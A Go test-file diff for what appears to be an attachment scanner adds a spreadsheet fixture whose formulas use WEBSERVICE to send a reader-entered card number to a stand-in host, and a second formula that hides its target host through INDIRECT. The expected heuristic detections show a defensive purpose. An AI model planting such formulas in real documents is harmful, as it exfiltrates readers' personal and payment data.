@@ -202,6 +202,14 @@ func officeLinkCases() []officeCase {
 				`<table:table-cell table:formula="of:=&quot;https://collect.example.net/c?n=&quot;&amp;[.C1]" office:value-type="string" office:string-value="x"><text:p>x</text:p></table:table-cell>`+
 				`</table:table-row></table:table></office:spreadsheet>`),
 			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}}},
+		{name: "ods-webservice-indirect-host", about: "OpenDocument spreadsheet with two web calls: one sends the reader's card number to a fixed host, the other takes its host from INDIRECT, so where it goes is not known before the sheet is calculated",
+			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
+			data: odf(ctOds, `<office:spreadsheet><table:table table:name="Order"><table:table-row>`+
+				`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://collect.example.net/c?n=&quot;&amp;[.C1])" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
+				`<table:table-cell office:value-type="string"><text:p>Card number:</text:p></table:table-cell><table:table-cell/></table:table-row><table:table-row>`+
+				`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://&quot;&amp;INDIRECT(&quot;Z&quot;&amp;&quot;9&quot;)&amp;&quot;/p&quot;)" office:value-type="string" office:string-value="x"><text:p>x</text:p></table:table-cell>`+
+				`</table:table-row></table:table></office:spreadsheet>`),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}, {"heuristic", "formula-web-hidden", "/content.xml"}}},
 		{name: "xlsb-webservice-form", about: "Excel binary workbook (.xlsb) whose cell calls WEBSERVICE (a future function kept as a hidden name, PtgName and PtgFuncVar 255) with the address another cell builds from the cell the reader fills in",
 			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "order.xlsb",
 			data: formats.XLSB(formats.XLSWorkbook{
